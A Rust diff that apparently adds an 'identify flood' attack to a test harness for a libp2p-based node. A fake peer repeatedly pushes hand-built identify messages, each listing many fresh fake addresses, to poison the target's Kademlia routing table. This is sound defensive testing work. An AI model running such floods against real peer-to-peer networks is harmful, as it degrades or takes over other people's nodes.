@@ -143,6 +143,126 @@ async fn run_minted(target: Multiaddr, from: IpAddr, opened: Arc<AtomicU64>) {
     }
 }
 
+/// A peer from `from` that connects to `target` (speaking identify and Kademlia) and pushes
+/// identify every `every` with `per_push` fresh listen addresses each time; the attack's
+/// `opened` counts the pushes.
+pub fn identify_flood(target: Multiaddr, from: IpAddr, per_push: u16, every: Duration) -> Attack {
+    let opened = Arc::new(AtomicU64::new(0));
+    let pushes = opened.clone();
+    let task = tokio::spawn(run_identify_flood(target, from, per_push, every, pushes));
+    Attack { task, opened }
+}
+
+#[derive(libp2p::swarm::NetworkBehaviour)]
+#[behaviour(prelude = "libp2p::swarm::derive_prelude")]
+struct Liar {
+    // Answers the victim's identify request (a push before it is ignored).
+    identify: libp2p::identify::Behaviour,
+    // Opens the push streams, written by hand: libp2p's identify pushes at most 20 addresses.
+    streams: libp2p_stream::Behaviour,
+}
+
+async fn run_identify_flood(
+    target: Multiaddr,
+    from: IpAddr,
+    per_push: u16,
+    every: Duration,
+    pushes: Arc<AtomicU64>,
+) {
+    let keypair = Keypair::generate_ed25519();
+    let local = keypair.public().to_peer_id();
+    let config = codio_transport::TransportConfig::default();
+    let transport =
+        codio_transport::upgrade(BoundTcp { from }, &keypair, &config).expect("transport");
+    let identify = libp2p::identify::Behaviour::new(libp2p::identify::Config::new(
+        "/codio/1.0.0".into(),
+        keypair.public(),
+    ));
+    let streams = libp2p_stream::Behaviour::new();
+    let mut control = streams.new_control();
+    let mut swarm = Swarm::new(
+        transport,
+        Liar { identify, streams },
+        local,
+        swarm::Config::with_tokio_executor().with_idle_connection_timeout(Duration::MAX),
+    );
+    let victim = loop {
+        let _ = swarm.dial(target.clone());
+        let connected = tokio::time::timeout(Duration::from_secs(5), async {
+            loop {
+                if let swarm::SwarmEvent::ConnectionEstablished { peer_id, .. } =
+                    swarm.select_next_some().await
+                {
+                    return peer_id;
+                }
+            }
+        });
+        if let Ok(peer_id) = connected.await {
+            break peer_id;
+        }
+    };
+    // The swarm runs on its own; this task pushes.
+    let _driver = DropAbort(tokio::spawn(async move {
+        loop {
+            swarm.select_next_some().await;
+        }
+    }));
+    let protocol = libp2p::StreamProtocol::new("/ipfs/id/push/1.0.0");
+    let mut tick = tokio::time::interval(every);
+    for round in 0u32.. {
+        tick.tick().await;
+        let message = identify_push(&keypair, round, per_push);
+        if let Ok(mut stream) = control.open_stream(victim, protocol.clone()).await {
+            use futures::AsyncWriteExt;
+            if stream.write_all(&message).await.is_ok() && stream.close().await.is_ok() {
+                pushes.fetch_add(1, Relaxed);
+            }
+        }
+    }
+}
+
+/// Aborts a task when dropped (with the attack).
+struct DropAbort(JoinHandle<()>);
+
+impl Drop for DropAbort {
+    fn drop(&mut self) {
+        self.0.abort();
+    }
+}
+
+/// An identify message (length-prefixed protobuf, written by hand) listing `count` fresh
+/// addresses and the Kademlia protocol, so the victim would put them in its routing table.
+fn identify_push(keypair: &Keypair, round: u32, count: u16) -> Vec<u8> {
+    fn varint(mut n: usize, out: &mut Vec<u8>) {
+        while n >= 0x80 {
+            out.push((n & 0x7f) as u8 | 0x80);
+            n >>= 7;
+        }
+        out.push(n as u8);
+    }
+    fn field(number: usize, bytes: &[u8], out: &mut Vec<u8>) {
+        varint(number << 3 | 2, out);
+        varint(bytes.len(), out);
+        out.extend_from_slice(bytes);
+    }
+    let mut message = Vec::new();
+    field(1, &keypair.public().encode_protobuf(), &mut message);
+    for port in 0..count {
+        let [_, _, a, b] = round.to_be_bytes();
+        let address: Multiaddr = format!("/ip4/203.0.{a}.{b}/tcp/{port}")
+            .parse()
+            .expect("address");
+        field(2, &address.to_vec(), &mut message);
+    }
+    field(3, b"/ipfs/kad/1.0.0", &mut message);
+    field(5, b"/codio/1.0.0", &mut message);
+    field(6, b"liar", &mut message);
+    let mut framed = Vec::new();
+    varint(message.len(), &mut framed);
+    framed.extend(message);
+    framed
+}
+
 /// A dial-only TCP transport whose sockets are bound to `from` (libp2p-tcp binds reused
 /// ports to the unspecified address, so on loopback every dial would come from 127.0.0.1).
 #[derive(Debug)]
